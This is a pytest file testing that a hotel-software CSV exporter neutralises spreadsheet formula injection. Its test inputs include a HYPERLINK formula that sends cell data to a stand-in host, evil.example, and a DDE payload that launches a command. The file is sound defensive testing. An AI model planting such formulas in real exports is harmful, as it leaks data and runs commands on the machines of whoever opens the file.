"""innkeep.core.csv_export: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from innkeep.core.csv_export import csv_cell, csv_writer


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'already quoted", "'already quoted"),
        ("Ana Ruiz", "Ana Ruiz"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_is_prefixed(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (1.5, "1.5"),
        (True, "true"),
        (None, ""),
        (date(2027, 3, 1), "2027-03-01"),
        (datetime(2027, 3, 1, 9, 30, tzinfo=UTC), "2027-03-01T09:30:00+00:00"),
    ],
)
def test_numbers_dates_and_booleans_are_written_as_they_are(value, cell):
    assert csv_cell(value) == cell


def test_the_writer_neutralises_every_cell_and_stays_valid_csv():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["guest", "total"])
    writer.writerows([["=cmd|' /C calc'!A0", Decimal("-5.00")], ['Ruiz, "Ana"', 7]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["guest", "total"],
        ["'=cmd|' /C calc'!A0", "-5.00"],
        ['Ruiz, "Ana"', "7"],
    ]
